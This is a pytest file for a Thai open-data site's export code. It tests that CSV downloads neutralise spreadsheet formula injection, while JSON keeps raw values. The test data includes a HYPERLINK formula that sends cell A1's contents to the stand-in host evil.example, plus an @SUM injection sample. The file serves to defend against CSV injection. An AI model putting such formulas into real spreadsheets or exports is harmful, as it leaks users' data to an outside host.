"""CSV downloads never carry a live spreadsheet formula (OWASP CSV injection); JSON keeps raw values."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from oitsite.publish import opendata
from oitsite.publish.manifest import itas_csv

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")'


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_safe_prefixes_formula_starts(start: str):
    assert opendata.csv_safe(start + "1+1") == "'" + start + "1+1"
    assert opendata.csv_safe("จัดซื้อ " + start) == "จัดซื้อ " + start


def test_procurement_csv_neutralises_text_json_keeps_it():
    recs = [{"name": EVIL, "budget": Decimal("-5"), "vendor_name": "@SUM(A1:A9)", "bidders": "-ร้าน ข"}]
    fields = list(opendata.topic_def("procurement").fields["records"].fields)
    first = dict(zip(fields, rows(opendata.to_csv("procurement", "records", recs))[1]))
    assert first["name"] == "'" + EVIL
    assert first["vendor_name"] == "'@SUM(A1:A9)" and first["bidders"] == "'-ร้าน ข"
    assert first["budget"] == "-5.00"  # a number the code formats is not text: kept
    doc = json.loads(opendata.to_json("procurement", "records", recs))
    assert doc["records"][0]["name"] == EVIL and doc["records"][0]["vendor_name"] == "@SUM(A1:A9)"


def test_itas_csv_neutralises_titles():
    man = {"items": [{"id": "O1", "title": EVIL, "url": "https://x.example/o1.html", "status": "met"}]}
    assert rows(itas_csv(man))[1] == ["O1", "'" + EVIL, "https://x.example/o1.html", "ครบ"]
